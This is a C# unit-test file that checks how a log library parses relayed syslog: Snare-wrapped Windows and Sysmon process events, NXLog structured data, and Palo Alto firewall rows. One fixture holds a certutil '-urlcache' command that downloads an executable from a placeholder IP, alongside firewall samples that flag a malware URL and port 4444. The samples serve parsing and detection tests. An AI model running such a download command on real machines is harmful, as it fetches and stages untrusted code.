using Modus.Logs;
using Xunit;

namespace Modus.Tests.Logs.Messages;

/// <summary>Windows events and firewalls' rows that relays send as syslog.</summary>
public sealed class RelayedEventTests
{
    private static readonly LogReadOptions utc = new() { AssumedYear = 2025, AssumedOffset = TimeSpan.Zero };

    [Theory]
    [InlineData("<14>Mar 04 10:11:12 WS01 ", "\t")]
    [InlineData("WS01.corp\t", "\t")]
    [InlineData("<14>Mar 04 10:11:12 WS01 ", "#011")]
    public void Snare_with_a_message_that_lost_its_lines(string before, string tab)
    {
        var line = before + string.Join(tab, "MSWinEventLog", "1", "Security", "123", "Tue Mar 04 10:11:12 2025", "4688", "Microsoft-Windows-Security-Auditing", "CORP\\eve", "N/A", "Success Audit", "WS01.corp", "Process Creation", "",
            "A new process has been created.    Creator Subject:   Security ID:  S-1-5-21-1   Account Name:  eve   Account Domain:  CORP   Logon ID:  0x3E7    Process Information:   New Process ID:  0x1092   New Process Name: C:\\Windows\\System32\\certutil.exe   Process Command Line: certutil.exe -urlcache http://203.0.113.7/a.exe    Token Elevation Type indicates the type.", "77");
        var e = Assert.Single(ReadText.Of(line + "\n", utc).Events);
        Assert.True(e.Source.Covers("windows", "security", "process_creation"));
        Assert.Equal((@"C:\Windows\System32\certutil.exe", "eve", "S-1-5-21-1", "WS01.corp"), (e["NewProcessName"], e["SubjectUserName"], e["SubjectUserSid"], e.Host));
        Assert.StartsWith("certutil.exe -urlcache http://203.0.113.7/a.exe", e["CommandLine"], StringComparison.Ordinal);
        Assert.Equal(new DateTime(2025, 3, 4, 10, 11, 12), e.Time.Utc);
    }

    [Fact]
    public void Snare_with_sysmons_message_in_one_line_with_single_blanks()
    {
        var e = Assert.Single(ReadText.Of("<14>Mar 04 10:11:12 WS01 MSWinEventLog\t1\tMicrosoft-Windows-Sysmon/Operational\t1\tTue Mar 04 10:11:12 2025\t1\tMicrosoft-Windows-Sysmon\tSYSTEM\tUser\tInformation\tWS01\tProcess Create\t\tProcess Create: RuleName: - UtcTime: 2025-03-04 10:11:12.123 ProcessId: 4 Image: C:\\a b\\x.exe CommandLine: x.exe http://203.0.113.7 /User: y CurrentDirectory: C:\\ User: CORP\\eve\t7\n", utc).Events);
        Assert.True(e.Source.Covers("windows", "sysmon", "process_creation"));
        Assert.Equal((@"C:\a b\x.exe", @"C:\", @"CORP\eve"), (e["Image"], e["CurrentDirectory"], e["User"]));
        Assert.Equal("x.exe http://203.0.113.7 /User: y", e["CommandLine"]);
    }

    [Fact]
    public void Structured_data_of_nxlog_is_the_event()
    {
        var e = Assert.Single(ReadText.Of("<14>1 2025-03-04T10:11:12.123456+01:00 WS01.corp Microsoft-Windows-Sysmon 2244 - [NXLOG@14506 EventID=\"1\" Channel=\"Microsoft-Windows-Sysmon/Operational\" RecordNumber=\"7\" UtcTime=\"2025-03-04 09:11:12.123\" Image=\"C:\\\\Windows\\\\x.exe\" CommandLine=\"x \\\"a\\] b\\\"\"] Process Create:\n").Events);
        Assert.True(e.Source.Covers("windows", "sysmon", "process_creation"));
        Assert.Equal((@"C:\Windows\x.exe", "x \"a] b\"", "Microsoft-Windows-Sysmon", "WS01.corp"), (e["Image"], e["CommandLine"], e["Provider_Name"], e.Host));
    }

    [Theory]
    [InlineData("Mar  4 10:11:12 PA-VM ")]
    [InlineData("<14>1 2025-03-04T10:11:12Z PA-VM - - - - ")]
    [InlineData("")]
    public void Rows_of_pan_os_by_their_type(string before)
    {
        var text = before + "1,2025/03/04 10:11:12,007,TRAFFIC,end,2561,2025/03/04 10:11:12,10.0.0.5,203.0.113.9,0.0.0.0,0.0.0.0,\"out, all\",corp\\eve,,ssl,vsys1,trust,untrust,e1,e2,fwd,2025/03/04 10:11:12,12,1,51234,4444,0,0,0x4,tcp,allow,1234,600,634,12,2025/03/04 10:11:00,10,any,,1,0x0,a,b\n"
            + before + "1,2025/03/04 10:11:12,007,THREAT,url,2561,2025/03/04 10:11:12,10.0.0.5,203.0.113.9,,,r,corp\\eve,,web-browsing,vsys1,trust,untrust,e1,e2,fwd,2025/03/04 10:11:12,12,1,51234,80,0,0,0x4,tcp,alert,\"x.example/a.exe\",(9999),malware,informational,client-to-server,1,0x0,a,b,0,text/html,0,,,1,\"Mozilla (x, \"\"y\"\")\",,\n"
            + before + "1,2025/03/04 10:11:12,007,SYSTEM,globalprotect,0,2025/03/04 10:11:12,,auth-fail,,0,0,general,medium,\"failed, really\",1,0x0,0,0,0,0,,PA-VM\n";
        var (events, report) = ReadText.Of(text, utc);
        Assert.Equal("syslog", report.Files[0].Format);
        Assert.All(events, e => Assert.Equal("pan-os", e.Shape));
        Assert.True(events[0].Source.Covers("paloalto", null, "firewall"));
        Assert.Equal(("10.0.0.5", "203.0.113.9", "4444", "allow", "out, all"), (events[0]["src_ip"], events[0]["dst_ip"], events[0]["dst_port"], events[0]["action"], events[0]["rule"]));
        Assert.True(events[1].Source.Covers(null, null, "proxy"));
        Assert.Equal(("misc", "x.example/a.exe", "Mozilla (x, \"y\")"), (events[1].Source.FieldFor("c-uri", null, "proxy"), events[1]["url"], events[1]["user_agent"]));
        Assert.True(events[2].Source.Covers("paloalto", "globalprotect", null));
        Assert.Equal("failed, really", events[2]["opaque"]);
    }
}
